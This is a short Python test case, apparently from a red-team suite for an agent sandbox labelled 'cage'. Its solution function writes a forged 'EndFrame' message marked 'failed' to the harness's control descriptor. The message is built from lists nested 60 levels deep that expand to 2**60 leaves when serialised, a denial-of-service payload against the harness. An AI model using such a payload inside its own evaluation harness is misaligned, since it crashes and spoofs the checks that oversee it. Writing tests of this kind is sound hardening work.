# kind: frames
# tries: a checkpoint of lists that each hold the next one twice: 2**60 leaves for whoever writes it out
# layer: cage
def solution(agent, start_from=1):
    import os
    import msgspec.msgpack as m
    body = m.encode(['EndFrame', 'failed', None, 1, 'E', 'm', 0.0, 0.0, [{'a': 0}, [['list', i + 1, i + 1] for i in range(60)] + ['x'], {}]])
    os.write(3, len(body).to_bytes(4, 'big') + body)
